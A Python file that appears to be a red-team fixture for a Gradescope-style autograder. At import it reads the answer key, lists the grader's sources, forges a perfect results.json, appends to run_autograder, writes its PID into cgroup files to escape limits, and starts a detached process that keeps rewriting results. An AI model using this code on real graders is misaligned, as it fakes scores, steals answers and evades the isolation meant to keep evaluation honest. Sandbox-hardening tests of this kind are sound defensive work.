# Appended to the blank template (every function still raises NotImplementedError): at import,
# everything a submission could try against Gradescope's container. It computes nothing. What it
# finds (the key, a listing of the sources) goes into the results.json it forges, so a forged
# file that reaches the end shows what leaked; each attempt is also said on stdout.
import json as _json
import os as _os
import time as _time

_FORGED = {"score": 100.0, "output": "FORGED", "tests": []}
_ROOT = "/autograder"


def _attempt(what, action):
    try:
        outcome = action() or "done"
    except Exception as exc:  # noqa: BLE001 - the outcome is the report
        outcome = type(exc).__name__
    print(f"HOSTILE {what}: {outcome}", flush=True)


def _forge(name):
    """The forged file, whole or not at all (written aside, then renamed): a container that
    ends while a plain rewrite was half done left a truncated, unreadable file."""
    part = f"{_ROOT}/results/.{name}.{_os.getpid()}"
    with open(part, "w") as f:
        _json.dump(_FORGED, f)
    _os.replace(part, f"{_ROOT}/results/{name}")


def _write_results():
    _forge("results.json")


def _tamper_run_autograder():
    with open(f"{_ROOT}/run_autograder", "a") as f:
        f.write("\necho TAMPERED\n")


def _read_key():
    with open(f"{_ROOT}/source/assignments/dp_basics/questions.yml") as f:
        _FORGED["output"] += " KEY " + f.read()
    return "read"


def _list_source():
    _FORGED["output"] += " LISTED " + " ".join(sorted(_os.listdir(f"{_ROOT}/source")))
    return "listed"


def _leave_cgroups():
    moved = []
    for procs in ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs",
                  "/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/cpu/cgroup.procs"):
        try:
            with open(procs, "w") as f:
                f.write(str(_os.getpid()))
            moved.append(procs)
        except OSError:
            pass
    if not moved:
        raise PermissionError("no cgroup.procs writable")
    return "moved to " + " ".join(moved)


def _rewriter():
    """A detached process (own session, orphaned) that rewrites the results for 40 s."""
    if _os.fork():
        return "started"
    _os.setsid()
    if _os.fork():
        _os._exit(0)
    deadline = _time.monotonic() + 40  # bounded: it must stop by itself
    while _time.monotonic() < deadline:
        for name in ("results.json", "report.json"):
            try:
                _forge(name)
            except OSError:
                pass
        try:
            with open(f"{_ROOT}/run_autograder", "a") as f:
                f.write("\necho TAMPERED\n")
        except OSError:
            pass
        _time.sleep(0.2)
    _os._exit(0)


_attempt("read key", _read_key)
_attempt("list source", _list_source)
_attempt("write results", _write_results)
_attempt("tamper run_autograder", _tamper_run_autograder)
_attempt("leave cgroups", _leave_cgroups)
_attempt("rewriter", _rewriter)
